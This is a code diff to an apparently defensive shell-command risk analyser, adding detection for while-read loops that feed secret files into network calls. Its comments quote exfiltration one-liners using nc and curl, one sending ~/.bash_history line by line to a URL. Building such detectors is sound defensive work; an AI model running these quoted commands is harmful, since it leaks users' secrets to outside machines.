@@ -240,6 +240,8 @@ class Analyser:
         body = node.child_by_field_name("body")
         if body is not None and body.type == "command":
             return  # the command picks up these redirections itself
+        if body is not None and body.type == "while_statement":
+            self._read_loop_flow(node, body)
         owner = _last_command(body)
         if owner is not None:
             # `cd /tmp && nc host 9 < f`: tree-sitter hangs `< f` on the list; bash gives it
@@ -333,6 +335,21 @@ class Analyser:
             found = [i for i, kinds in enumerate(all_kinds) if kind in kinds]
             if found and readers and min(found) < max(readers):
                 self.ctx.add(RiskLevel.HIGH, reason, node_text(node))
+
+    def _read_loop_flow(self, node: Node, body: Node) -> None:
+        """`while read l; do curl -d "$l" URL; done < ~/.bash_history`: each line sent away."""
+        if not SENDING_CALLS.search(node_text(body)):
+            return
+        for redirect in statement_redirects(node):
+            what = (
+                secret_path(redirect.target.value)
+                if redirect.op == "<" and redirect.target
+                else None
+            )
+            if what:
+                reason = f"sends {what} to another machine, one line at a time"
+                self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])
+                return
 
     def _loop_flow(self, node: Node) -> None:
         reason = loop_flow(node, self.kinds_of) or _loop_over_secrets(node)
